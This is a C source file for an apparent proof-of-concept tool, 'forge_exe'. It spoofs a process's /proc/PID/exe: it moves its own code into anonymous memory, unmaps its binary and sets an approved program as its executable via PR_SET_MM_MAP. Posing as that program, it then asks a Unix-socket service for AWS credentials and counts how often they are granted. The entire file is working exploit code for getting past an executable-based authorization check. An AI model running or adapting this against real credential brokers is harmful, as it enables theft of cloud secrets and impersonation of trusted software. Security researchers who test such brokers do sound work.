/*
 * Makes /proc/PID/exe name an approved program without ever executing it: moves its own code to memory of no file,
 * unmaps the file that it came from, and declares the approved one its executable (PR_SET_MM_MAP), which the kernel
 * allows to those who rule over a user namespace. Statically linked, so that the code is all in one file.
 *
 *   forge_exe SOCKET REQUEST APPROVED no [COUNT]    nothing of the approved program is mapped
 *   forge_exe SOCKET REQUEST APPROVED map [COUNT]   the approved program is mapped as executable too
 */
#include "forge.h"
#include <sys/stat.h>

enum { MOST = 32, GRANTED = 77 };

/* All that the code needs once the program's own data is gone. */
struct plan {
    struct prctl_mm_map map;
    struct { unsigned long start, length; } own[MOST];
    int count, approved, mapped, quiet;
    unsigned long size;
    char check[128], request[512], answer[65536];
    size_t check_length, request_length;
};

__attribute__((section("moving"), always_inline)) static inline long
call(long number, long a, long b, long c, long d, long e, long f)
{
#if defined(__x86_64__)
    register long r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
    long result;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return result;
#else
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c,
                  x3 __asm__("x3") = d, x4 __asm__("x4") = e, x5 __asm__("x5") = f;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4), "r"(x5) : "memory");
    return x0;
#endif
}

/* Runs from anonymous memory; only system calls, and no data but the plan. Its exit status tells the step that failed. */
__attribute__((section("moving"), noinline, noreturn)) static void payload(struct plan *plan)
{
    long status = 0, error, n, connection;
    for (int i = 0; i < plan->count; i++)
        call(SYS_munmap, (long)plan->own[i].start, (long)plan->own[i].length, 0, 0, 0, 0);
    error = call(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&plan->map, sizeof plan->map, 0, 0);
    if (error != 0)
        call(SYS_exit_group, 100 - error, 0, 0, 0, 0, 0);
    if (plan->mapped
        && call(SYS_mmap, 0, (long)plan->size, PROT_READ | PROT_EXEC, MAP_PRIVATE, plan->approved, 0) < 0)
        status = 3;
    call(SYS_close, plan->approved, 0, 0, 0, 0, 0);
    /* The connection is made now, by what looks like the approved program; a request follows the answer to a check. */
    connection = call(SYS_socket, AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, 0, 0, 0);
    if (call(SYS_connect, connection, (long)plan->answer, sizeof(struct sockaddr_un), 0, 0, 0) != 0)
        status = 4;
    call(SYS_write, connection, (long)plan->check, (long)plan->check_length, 0, 0, 0);
    n = call(SYS_read, connection, (long)plan->answer, sizeof plan->answer, 0, 0, 0);
    if (n > 0 && !plan->quiet)
        call(SYS_write, 1, (long)plan->answer, n, 0, 0, 0);
    call(SYS_write, connection, (long)plan->request, (long)plan->request_length, 0, 0, 0);
    n = call(SYS_read, connection, (long)plan->answer, sizeof plan->answer, 0, 0, 0);
    if (n > 0 && !plan->quiet)
        call(SYS_write, 1, (long)plan->answer, n, 0, 0, 0);
    for (char *at = plan->answer; n > 6 && at < plan->answer + n - 6; at++)
        if (at[0] == 'v' && at[1] == 'a' && at[2] == 'l' && at[3] == 'u' && at[4] == 'e' && at[5] == '"')
            status = GRANTED;
    for (;;)
        call(SYS_exit_group, status, 0, 0, 0, 0, 0);
}

extern char __start_moving[], __stop_moving[];

static void find_own(struct plan *plan)
{
    char line[8192], own[4096];
    ssize_t n = readlink("/proc/self/exe", own, sizeof own - 1);
    own[n > 0 ? n : 0] = 0;
    FILE *maps = fopen("/proc/self/maps", "r");
    while (maps && fgets(line, sizeof line, maps) && plan->count < MOST) {
        unsigned long start, end;
        if (strstr(line, own) && sscanf(line, "%lx-%lx", &start, &end) == 2) {
            plan->own[plan->count].start = start;
            plan->own[plan->count++].length = end - start;
        }
    }
    fclose(maps);
}

int main(int argc, char **argv)
{
    struct stat status;
    struct plan *plan =
        mmap(NULL, sizeof *plan, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    size_t size = (size_t)(__stop_moving - __start_moving);
    char *code = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (argc < 4 || plan == MAP_FAILED || code == MAP_FAILED)
        fail("mmap");
    plan->approved = open(argv[3], O_RDONLY | O_CLOEXEC);
    plan->mapped = argc > 4 && strcmp(argv[4], "map") == 0;
    if (fstat(plan->approved, &status) != 0)
        fail(argv[3]);
    plan->size = (unsigned long)status.st_size;
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, argv[1], sizeof address.sun_path - 1);
    memcpy(plan->answer, &address, sizeof address);
    plan->check_length = (size_t)snprintf(
        plan->check, sizeof plan->check, "{\"type\":\"REQUEST\",\"action\":\"check\",\"service\":\"aws\"}\n");
    plan->request_length = (size_t)snprintf(plan->request, sizeof plan->request, "%s\n", argv[2]);
    int count = argc > 5 ? atoi(argv[5]) : 1, granted = 0;
    plan->quiet = argc > 5;
    for (int i = 0; i < count; i++) {
        int ended;
        pid_t child = fork();
        if (child == 0) {
            describe_memory(&plan->map, plan->approved);
            find_own(plan);
            memcpy(code, __start_moving, size);
            if (mprotect(code, size, PROT_READ | PROT_EXEC) != 0)
                fail("mprotect");
            ((void (*)(struct plan *))(code + ((char *)payload - __start_moving)))(plan);
        }
        waitpid(child, &ended, 0);
        if (WIFEXITED(ended) && WEXITSTATUS(ended) > 100)
            printf("PR_SET_MM_MAP: %s\n", strerrorname_np(WEXITSTATUS(ended) - 100));
        else if (!WIFEXITED(ended) || (WEXITSTATUS(ended) != 0 && WEXITSTATUS(ended) != GRANTED))
            printf("ended with %d\n", ended);
        else
            granted += WEXITSTATUS(ended) == GRANTED;
    }
    printf("%d of %d granted\n", granted, count);
    return 0;
}
